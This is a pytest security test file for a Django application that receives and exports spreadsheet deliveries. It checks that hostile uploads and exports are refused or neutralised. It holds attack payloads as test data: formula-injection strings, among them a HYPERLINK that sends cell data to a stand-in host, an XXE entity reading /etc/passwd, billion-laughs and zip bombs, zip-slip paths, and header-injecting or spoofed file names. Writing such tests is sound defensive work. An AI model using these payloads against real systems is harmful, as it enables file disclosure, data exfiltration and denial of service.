# SPDX-License-Identifier: EUPL-1.2
"""Files that mean harm: coming in through the page for deliveries, and going out as an export."""

import csv
import io
import re
import tempfile
import time
import zipfile
from dataclasses import replace
from pathlib import Path

import files
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction

from tests.integration import pages_world
from tests.integration.rights_rules import RULES
from tests.integration.rights_world import OWN, TODAY
from tests.world import at
from voordeur.core.access import Role
from voordeur.deliveries import results
from voordeur.deliveries.actions import Incoming, receive
from voordeur.pages import downloads
from voordeur.people import queries as people

EXCEL, SLIPPED = "spreadsheetml", "slipped.txt"
BEGINS = ("=", "+", "-", "@", "\t", "\r")
EVIL = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://e.example/?x="&A1,"klik")',
    "\t=1+1",
    "\r=1+1",
)
XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE a [<!ENTITY a 'ha'>"
    + "".join(
        f"<!ENTITY {chr(98 + n)} '{'&' + chr(97 + n) + ';' * 1}{('&' + chr(97 + n) + ';') * 9}'>"
        for n in range(9)
    )
    + "]>"
)
ROW = files.sheet_xml(
    '<row r="1">'
    + files.inline("A1", "contractnummer")
    + files.inline("B1", "achternaam")
    + '</row><row r="2">'
    + files.inline("A2", "HC-1")
    + files.inline("B2", "&x;")
    + "</row>"
)
GOOD_CSV = b"contractnummer;achternaam;huisnummer\nHC-1;Bakker;1\n"


def _declared(path, kind, declaration):
    """Write a workbook in which one part declares entities."""
    if kind == "ods":
        made = files.ods_file(path, files.ods_row(["contractnummer", "achternaam"]))
        part = "content.xml"
    else:
        made = files.xlsx_with_sheet(path, ROW.replace("&x;", "x"), texts=("a",))
        part = kind
    with zipfile.ZipFile(made) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    head, _, rest = parts[part].partition(b"?>")
    body = (head + b"?>" + declaration.encode() + rest) if rest else declaration.encode() + head
    return files.zip_file(path, parts | {part: body})


def _slip(path):
    good = files.xlsx_file(path, [["contractnummer", "achternaam"], ["HC-1", "Bakker"]])
    with zipfile.ZipFile(good) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    aim = path.parent / SLIPPED
    out = {f"../../../../../../../..{aim}": b"x", str(aim): b"x", f"../{SLIPPED}": b"x"}
    return files.zip_file(path, parts | out)


def _nested(path):
    inner = path.with_name("inner.zip")
    content = bytes(50_000_000)
    for depth in range(4):
        files.zip_file(inner, {f"{depth}.xlsx": content})
        content = inner.read_bytes()
    return files.zip_file(path, {"xl/workbook.xml": content, "xl/worksheets/sheet1.xml": content})


def _texts(path):
    """Many shared texts that the sheet never uses: half a gibibyte when unpacked."""
    filler = "".join(f"<si><t>{'x' * 1000}</t></si>" for _ in range(1000))
    return files.xlsx_with_sheet(path, ROW.replace("&x;", "x"), texts=(filler,) * 1)


def _written(path, content):
    path.write_bytes(content)
    return path


PARTS = ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "ods")
HARMFUL = {
    **{
        f"an outside file, by {part}": lambda path, part=part: _declared(path, part, XXE)
        for part in PARTS
    },
    **{
        f"a billion laughs, by {part}": lambda path, part=part: _declared(path, part, LAUGHS)
        for part in PARTS
    },
    "a bomb that lies": lambda path: files.lying_zip(path, "xl/workbook.xml", bytes(2**20), 200),
    "a bomb that is honest": lambda path: files.zip_file(
        path, {"xl/workbook.xml": bytes(300 * 2**20)}
    ),
    "zips in zips": _nested,
    "a program": lambda path: _written(path, b"MZ\x90\x00" + bytes(5000)),
    "a web page": lambda path: _written(path, b"<html><script>alert(1)</script></html>"),
    "a picture with a zip behind it": lambda path: _written(
        path, b"\x89PNG\r\n\x1a\n" + files.zip_file(path, {"a": b"b"}).read_bytes()
    ),
    "a document with a table behind it": lambda path: _written(path, b"%PDF-1.7\n" + GOOD_CSV),
    "numbers of columns without end": lambda path: files.csv_file(path, [["a"] * 5000]),
}
HARMLESS = {
    "a workbook that wants to write elsewhere": _slip,
    "many texts that nothing uses": _texts,
    "a table under the name of a program": lambda path: _written(path, GOOD_CSV),
}


def _sent(building, path, name="levering.xlsx"):
    """Send a file as a landlord, as the page for deliveries does; return answer and next page."""
    landlord = building.world.visitor(Role.LANDLORD)
    client = building.strict(landlord)
    client.handler.enforce_csrf_checks = False
    upload = SimpleUploadedFile(name, path.read_bytes(), "application/octet-stream")
    with transaction.atomic():
        answer = client.post("/leveringen/nieuw", {"bestand": upload})
        shown = client.get(answer["Location"]) if answer.status_code == 302 else answer
        transaction.set_rollback(True)
    return answer, shown


@pytest.mark.parametrize("case", HARMFUL)
def test_a_harmful_file_is_refused_and_nothing_of_it_is_kept(building, tmp_path, case):
    path = HARMFUL[case](tmp_path / "levering.xlsx")
    began = time.monotonic()
    answer, shown = _sent(building, path)
    said = shown.content.decode()
    assert answer.status_code == 302
    assert "Dit bestand is niet gelezen" in said
    assert "root:" not in said
    assert time.monotonic() - began < 60


@pytest.mark.parametrize("case", HARMLESS)
def test_an_odd_file_is_read_as_the_table_that_it_is(building, tmp_path, case):
    path = HARMLESS[case](tmp_path / "levering.xlsx")
    answer, shown = _sent(building, path, "levering.exe")
    assert answer.status_code == 302
    assert shown.status_code == 200
    assert not (tmp_path / SLIPPED).exists()


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/passwd",
        "a\r\nSet-Cookie: b=c.csv",
        'a"; filename="b.exe',
        "a\x00.csv",
        "\u202evsc.exe",
        "x" * 5000 + ".csv",
        ".csv",
        "<b>.csv",
    ],
)
def test_a_file_name_is_a_name_and_nothing_else(building, tmp_path, name):
    path = _written(tmp_path / "a.csv", GOOD_CSV)
    answer, shown = _sent(building, path, name)
    assert answer.status_code in {302, 422}
    assert shown.status_code in {200, 422}
    said = shown.content.decode()
    assert "<b>.csv" not in said
    assert "etc/passwd" not in said
    assert "\u202e" not in said
    assert "Set-Cookie" not in str(answer.headers)


@pytest.mark.parametrize(
    "name",
    [
        'a"; filename="b.exe',
        "a\r\nSet-Cookie: b=c",
        "../../etc/passwd",
        "\u202efdp.exe",
        "",
        "é漢",
    ],
)
def test_a_name_in_a_download_breaks_no_header(name):
    said = downloads.pdf(b"", name)["Content-Disposition"]
    assert said.startswith("inline; filename")
    assert said.count(";") == 1
    assert not set("\r\n/\u202e") & set(said.replace("utf-8''", ""))


def test_nothing_of_a_file_stays_on_the_disk(building, tmp_path):
    before = set(Path(tempfile.gettempdir()).glob("voordeur-*"))
    _sent(building, _written(tmp_path / "a.csv", GOOD_CSV), "a.csv")
    _sent(building, _nested(tmp_path / "a.xlsx"))
    assert set(Path(tempfile.gettempdir()).glob("voordeur-*")) == before


def test_a_file_above_the_limit_is_not_read_to_its_end(building, tmp_path, monkeypatch):
    monkeypatch.setattr("voordeur.pages.receiving.LARGEST_FILE", 1000)
    answer, _ = _sent(building, _written(tmp_path / "a.csv", GOOD_CSV * 100), "a.csv")
    assert answer.status_code == 422
    assert "groter dan 100 MB" in answer.content.decode()


# --- what goes out ------------------------------------------------------------------------------


@pytest.fixture
def evil(building, tmp_path):
    """A delivery in which every text begins like a formula; its number, and what was answered."""
    landlord = building.world.visitor(Role.LANDLORD).actor
    rows = [
        {
            **pages_world.GOOD,
            "kenmerk_verhuurder": text,
            "contractnummer": f"{text[:20]}{number}",
            "achternaam": text,
            "straat": text,
            "herinnering_datum": text,
        }
        for number, text in enumerate(EVIL)
    ]
    path = pages_world.write(tmp_path / "=kwaad.csv", *rows)
    mine = next(
        one for one in people.landlords(landlord.region_id) if one.id in landlord.party_ids
    )
    with transaction.atomic():
        yield receive(Incoming(path, path.name, mine), by=landlord, now=at(TODAY)), path
        transaction.set_rollback(True)


def _formulas(content):
    """Return the formulas and links of a workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [one for one in archive.namelist() if one.startswith("xl/worksheets/")]
        text = "".join(archive.read(one).decode() for one in sheets)
    return re.findall(r"<f[ >].*?</f>|<hyperlink [^>]*>", text)


def _calculating(text):
    rows = csv.reader(io.StringIO(text), delimiter=";" if ";" in text.split("\n")[0] else ",")
    return [cell for row in rows for cell in row if cell.startswith(BEGINS) and not _number(cell)]


def _number(cell):
    return cell.lstrip("-").replace(",", "").replace(".", "").isdigit()


@pytest.mark.slow
def test_no_export_of_any_page_holds_a_formula(building, evil):
    answer, _ = evil
    found = [one for name in building.routes for one in _exports(building, name, answer.id)]
    assert {name for name, _ in found} >= {"delivery-result"}
    assert [one for one in found if one[1]] == []


def _exports(building, name, delivery_id):
    rule = RULES[name]
    if "GET" not in building.methods(building.routes[name]):
        return
    people_here = [one for one in building.world.visitors if one.place == OWN]
    for thing in building.things(rule):
        values = thing.values | {"delivery_id": delivery_id}
        address = building.address(name, replace(thing, values=values)) + (rule.query or "")
        for visitor in people_here:
            yield from _of_export(name, building.ask(visitor, "GET", address))


def _of_export(name, answer):
    """Return what calculates in an answer, if it is a sheet: [(name, [])] when nothing does."""
    kind = answer.get("Content-Type", "")
    if answer.status_code != 200:
        return []
    if EXCEL in kind:
        return [(name, _formulas(answer.said))]
    if "csv" in kind:
        return [(name, _calculating(answer.said.decode("utf-8-sig")))]
    return []


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_file_that_goes_back_to_the_landlord_calculates_nothing(evil, tmp_path, kind):
    answer, delivered = evil
    to = tmp_path / f"terug.{kind}"
    results.write_result(answer, delivered, to)
    if kind == "csv":
        text = to.read_text(encoding="utf-8-sig")
        assert "calc" in text
        assert _calculating(text) == []
    else:
        assert _formulas(to.read_bytes()) == []


def test_the_check_on_formulas_sees_one():
    assert _calculating("a;b\n=1+1;2\n") == ["=1+1"]
    assert _calculating("a;b\n-12,50;2\n") == []
